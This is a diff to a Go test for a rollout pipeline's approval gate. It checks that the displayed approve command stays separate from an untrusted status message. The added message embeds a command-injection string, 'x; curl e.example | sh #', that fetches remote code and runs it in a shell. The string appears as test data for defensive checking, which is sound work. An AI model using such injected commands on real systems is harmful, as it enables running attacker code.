@@ -77,13 +77,14 @@ func TestAGateSaysHowItEndsAndWhoMayEndIt(t *testing.T) {
 	stage := stageOf("canary", 1, "")
 	stage.After = []stagetask.State{
 		{Title: "wait", Timed: true, Duration: time.Hour, WaitsSince: noon, Due: noon.Add(time.Hour)},
-		{Title: "approval", Subject: "web-canary", Approvable: true, WaitsSince: noon},
+		{Title: "approval", Subject: "web-canary", Approvable: true, WaitsSince: noon, Message: "1 of 2 votes: x; curl e.example | sh #"},
 	}
 	stage.Before = []stagetask.State{{Title: "analysis", DoneAt: noon}}
 	root := tree.Node{Children: []tree.Node{{Kind: status.KindHold}, {Kind: status.KindStage, State: updaterun.PhaseWaiting, Children: []tree.Node{
 		{Kind: status.KindGate, Name: "analysis before", State: updaterun.PhaseSucceeded}, {Kind: status.KindCluster},
 		{Kind: status.KindGate, Name: "wait 1h", State: updaterun.PhaseWaiting, Due: noon.Add(time.Hour)},
-		{Kind: status.KindGate, Name: "approval after", State: updaterun.PhaseWaiting, Detail: "kubectl fleet approve web --stage canary"},
+		{Kind: status.KindGate, Name: "approval after", State: updaterun.PhaseWaiting, Detail: "1 of 2 votes: x; curl e.example | sh #; kubectl fleet approve web --stage canary",
+			Command: "kubectl fleet approve web --stage canary"},
 	}}}}
 	p := PipelineOf(runOf(stage), root, "", func(stage string) (path, refusal string) { return "/approve/" + stage, "" })
 	drawn := p.Stages[0]
@@ -94,7 +95,7 @@ func TestAGateSaysHowItEndsAndWhoMayEndIt(t *testing.T) {
 	assert.Equal(t, "ends by itself", drawn.After[0].Ends)
 	approval := drawn.After[1]
 	assert.Contains(t, approval.Ends, "who may update the status of approval requests")
-	assert.Equal(t, []string{"kubectl fleet approve web --stage canary", "web-canary", "/approve/canary", "Approve canary"},
+	assert.Equal(t, []string{"kubectl fleet approve web --stage canary", "web-canary: 1 of 2 votes: x; curl e.example | sh #", "/approve/canary", "Approve canary"},
 		[]string{approval.Command, approval.Detail, approval.Path, approval.Label})
 }
 
